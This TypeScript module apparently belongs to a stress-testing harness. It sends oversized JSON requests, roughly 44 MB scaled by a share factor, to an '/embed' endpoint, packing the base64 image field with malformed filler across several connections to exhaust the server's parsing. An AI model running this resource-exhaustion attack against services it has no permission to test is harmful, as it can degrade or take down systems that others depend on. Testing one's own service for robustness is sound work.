import { exchange, head, type Target } from '../wire.js';
import { type Attack, inTurn, type Kind } from './kind.js';

/** Sends an image as JSON whose base64 is what it is. */
export async function sendBase64(target: Target, text: Buffer) {
  const [before, behind] = [Buffer.from('{"image":{"base64":"'), Buffer.from('"}}')];
  const length = before.length + text.length + behind.length;
  const fields = { 'content-type': 'application/json', 'content-length': length };
  return exchange(target, head('POST', '/embed', fields), before, text, behind);
}

/** Base64 with something between all its characters. */
export const base64: Kind = {
  name: 'base64',
  connections: 3,
  pauseMs: 2000,
  async prepare(share) {
    const repeated = (text: string) =>
      Buffer.from(text.repeat(Math.floor((share * 44e6) / text.length)));
    const to =
      (text: Buffer): Attack =>
      async (target) =>
        (await sendBase64(target, text)).status;
    return inTurn(
      to(repeated('A ')),
      to(repeated('A\\n')),
      to(repeated('\\u0041')),
      to(repeated('%')),
    );
  },
};
